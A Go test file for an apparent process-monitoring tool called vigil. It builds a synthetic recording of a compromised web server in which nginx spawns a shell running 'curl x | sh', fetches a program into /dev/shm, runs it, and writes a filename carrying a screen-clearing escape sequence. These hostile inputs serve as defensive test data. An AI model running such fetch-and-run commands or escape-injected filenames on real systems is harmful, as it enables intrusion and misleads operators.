package main

import (
	"bytes"
	"os"
	"testing"

	"vigil/decode"
	"vigil/decode/recordtest"
)

const second = 1_000_000_000

// story is a recording of a web server's shell: it fetches a program, runs it from
// shared memory, and the program writes a file whose name would clear the screen.
func story() ([]byte, error) {
	var b bytes.Buffer
	w, err := decode.NewWriter(&b, decode.Meta{
		BootOffset: 1_700_000_000*second - 100*second, BootSeed: 7, Version: "v0.1", Host: "web1", Kernel: "6.12.0", Architecture: "amd64",
	})
	if err != nil {
		return nil, err
	}
	const nginx, sh, curl, x = 0xa1, 0xa2, 0xa3, 0xa4
	at := uint64(100 * second)
	header := func(execID, parent uint64, pid uint32) decode.Header {
		at += second / 4
		return decode.Header{Time: at, ExecID: execID, ParentExecID: parent, PID: pid, TID: pid, UID: 33, CPU: 1, Count: 1}
	}
	program := func(h decode.Header, ppid uint32, path, arguments, comm string) decode.Record {
		e := decode.Exec{Start: h.Time, PPID: ppid, GID: 33, EUID: 33, EGID: 33, Mode: 0o100755, Argc: 1}
		return recordtest.DecodedWith(h, decode.KindExec, e, recordtest.Texts(path, arguments, "/srv", path, "", "", comm)...)
	}
	records := []decode.Record{
		program(header(nginx, 1, 400), 1, "/usr/sbin/nginx", "nginx\x00", "nginx"),
		program(header(sh, nginx, 410), 400, "/usr/bin/dash", "sh\x00-c\x00curl x | sh\x00", "sh"),
		program(header(curl, sh, 411), 410, "/usr/bin/curl", "curl\x00https://example.com/x\x00", "curl"),
		recordtest.DecodedWith(header(curl, sh, 411), decode.KindConnect,
			decode.Socket{Ends: recordtest.Ends("10.0.0.5:43210", "93.184.216.34:443"), LatencyNS: 12_000_000}),
		recordtest.DecodedWith(header(curl, sh, 411), decode.KindFileWrite, decode.FileWrite{Bytes: 13_000, Writes: 4, OpenFlags: 1},
			[]byte("/dev/shm/x")),
		recordtest.DecodedWith(header(curl, sh, 411), decode.KindExit, decode.Exit{Start: 100 * second}),
		program(header(x, sh, 412), 410, "/dev/shm/x", "/dev/shm/x\x00-d\x00", "x"),
		recordtest.DecodedWith(header(x, sh, 412), decode.KindFileWrite, decode.FileWrite{Bytes: 5, Writes: 1, OpenFlags: 1},
			[]byte("/srv/\x1b[2Jname\nwith a second line")),
		recordtest.DecodedWith(decode.Header{Time: at + second}, decode.KindLost, decode.Lost{Records: 3, Since: at, Until: at + second, Kind: uint32(decode.KindFileOpen), CPU: 1}),
	}
	for _, r := range records {
		if err := w.Write(r); err != nil {
			return nil, err
		}
	}
	return b.Bytes(), nil
}

// A recording that an older vigil made must replay: when this fails, the format
// has changed, and decode's recordingVersion must.
func TestStoryIsReadAsWritten(t *testing.T) {
	want, err := story()
	if err != nil {
		t.Fatal(err)
	}
	if *update {
		if err := os.WriteFile("testdata/story.rec", want, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	got, err := os.ReadFile("testdata/story.rec")
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, want) {
		t.Error("records are laid out in another way than testdata/story.rec: raise decode's recordingVersion, then go test ./cmd/vigil -update")
	}
}
